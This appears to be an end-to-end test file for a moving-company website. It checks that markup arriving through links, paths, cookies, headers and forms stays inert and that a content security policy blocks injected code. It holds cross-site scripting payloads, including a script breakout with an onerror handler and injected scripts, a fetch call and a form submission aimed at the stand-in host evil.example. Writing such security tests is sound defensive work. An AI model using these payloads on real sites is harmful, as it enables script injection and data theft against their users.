import type { Page } from '@playwright/test'
import { DENIED_FEATURES } from '@/lib/security/headers'
import { expect, test } from '@/e2e/support/servers/fixtures'
import { openPage } from '@/e2e/support/pages/hydration'
import { VALID_MOVE, makeValidPickup, postForm } from '@/e2e/support/pages/post-form'
import { fetchForm, type Fields } from '@/lib/http/plain-form'

/** Breaks out of a text, an attribute and a script; each part would set `hacked` on the window. */
const MARKUP = `"'></script><script>window.hacked = 1</script><img src="/nope.png" onerror="window.hacked = 2">`

const fillWithMarkup = (names: readonly string[]) =>
  new URLSearchParams(names.map((name) => [name, MARKUP])).toString()
const markFields = (fields: Fields) =>
  Object.fromEntries(Object.keys(fields).map((name) => [name, MARKUP]))

const THANK_YOU_QUERY = fillWithMarkup([
  ...['form', 'city', 'moveDate', 'fromAddress', 'toAddress', 'packing'],
  ...['window', 'load', 'ref', 'signature'],
])
const LINK_QUERY = fillWithMarkup(['h', 'utm_source', 'utm_campaign', 'gclid', 'x'])
const COOKIES = ['visit', 'visitor-country', 'sent'].map(
  (name) => `${name}=${encodeURIComponent(MARKUP)}`,
)

async function fetchHtml(url: string, headers: Record<string, string> = {}): Promise<string> {
  const response = await fetch(url, { headers: { accept: 'text/html', ...headers } })
  return response.text()
}

const postMarkup = async (url: string, label: string, fields: Fields) =>
  (await postForm(await fetchForm(url, label), markFields(fields))).html

const SUPPLIED: [way: string, getHtml: (siteUrl: string) => Promise<string>][] = [
  ['a link', (site) => fetchHtml(`${site}/toronto/get-quote?${LINK_QUERY}`)],
  ['the thank-you address', (site) => fetchHtml(`${site}/thankyou?${THANK_YOU_QUERY}`)],
  ['a path', (site) => fetchHtml(`${site}/toronto/${encodeURIComponent(MARKUP)}`)],
  ['a path without a city', (site) => fetchHtml(`${site}/thankyou/${encodeURIComponent(MARKUP)}`)],
  ['cookies', (site) => fetchHtml(`${site}/thankyou`, { cookie: COOKIES.join('; ') })],
  [
    'headers',
    (site) => fetchHtml(`${site}/thankyou`, { referer: MARKUP, 'x-vercel-ip-country': MARKUP }),
  ],
  ['a moving quote', (site) => postMarkup(`${site}/toronto`, 'Moving quote', VALID_MOVE)],
  [
    'a junk pickup',
    (site) => postMarkup(`${site}/toronto/book-now`, 'Junk pickup', makeValidPickup()),
  ],
]

test.describe('without any policy', () => {
  test.use({ expectedErrors: [/404 \(Not Found\)|React error #4\d\d/] })

  for (const [way, getHtml] of SUPPLIED) {
    test(`Markup from ${way} is text`, { tag: '@core' }, async ({ page, site }) => {
      const body = await getHtml(site.url)
      expect(body).toMatch(/<html/)
      await page.route('**/supplied', (route) => route.fulfill({ contentType: 'text/html', body }))
      await page.goto('/supplied')
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
      await page.waitForLoadState('networkidle')
      await expect(page.locator('[onerror]')).toHaveCount(0)
      expect(await page.evaluate(() => 'hacked' in window)).toBe(false)
    })
  }
})

async function trackCspViolations(page: Page): Promise<string[]> {
  const violations: string[] = []
  await page.exposeFunction(
    'reportViolation',
    (violation: string) => void violations.push(violation),
  )
  await page.addInitScript(() => {
    const { reportViolation } = window as unknown as {
      reportViolation: (violation: string) => void
    }
    addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      reportViolation(`${effectiveDirective} ${blockedURI}`),
    )
  })
  return violations
}

const INJECTED_HTML = `
  <script src="https://evil.example/a.js"></script>
  <script src="data:text/javascript,window.hacked='data'"></script>
  <link rel="stylesheet" href="https://evil.example/a.css">
  <img src="https://evil.example/a.png" alt="">
  <iframe src="https://evil.example/"></iframe>
  <object data="https://evil.example/"></object>
  <base href="https://evil.example/">
  <script>
    try { eval('window.hacked = "eval"') } catch {}
    fetch('https://evil.example/').catch(() => {})
  </script>`

test.describe('with code in the page', () => {
  // React logs an error for the changed page.
  test.use({ expectedErrors: [/Content Security Policy|404 \(Not Found\)|React error #418/] })

  for (const path of ['/toronto', '/toronto/book-now', '/thankyou?form=full&city=toronto']) {
    test(`Code injected into ${path} reaches no other host`, async ({ page }) => {
      const violations = await trackCspViolations(page)
      await page.route('https://evil.example/**', () => {
        throw new Error('The page requested another host')
      })
      await page.route(`**${path}`, async (route) => {
        const response = await route.fetch({ maxRetries: 2 })
        const html = await response.text()
        await route.fulfill({ response, body: html.replace('<body>', `<body>${INJECTED_HTML}`) })
      })
      await page.goto(path)
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
      await page.evaluate(() => {
        const form = document.createElement('form')
        form.action = 'https://evil.example/'
        document.body.append(form)
        form.submit()
      })
      await expect
        .poll(() => [...new Set(violations.map((violation) => violation.split(' ')[0]))].sort())
        .toEqual([
          ...['base-uri', 'connect-src', 'form-action', 'frame-src', 'img-src', 'object-src'],
          ...['script-src', 'script-src-elem', 'style-src-elem'],
        ])
      expect(await page.evaluate(() => 'hacked' in window)).toBe(false)
    })
  }
})

test('A page cannot use any denied browser feature', async ({ page }) => {
  await openPage(page, '/toronto')
  const allowed = await page.evaluate(() =>
    (
      document as unknown as { featurePolicy: { allowedFeatures(): string[] } }
    ).featurePolicy.allowedFeatures(),
  )
  // The film needs autoplay.
  expect(allowed).toContain('autoplay')
  expect(allowed.filter((name) => DENIED_FEATURES.includes(name))).toEqual([])
})
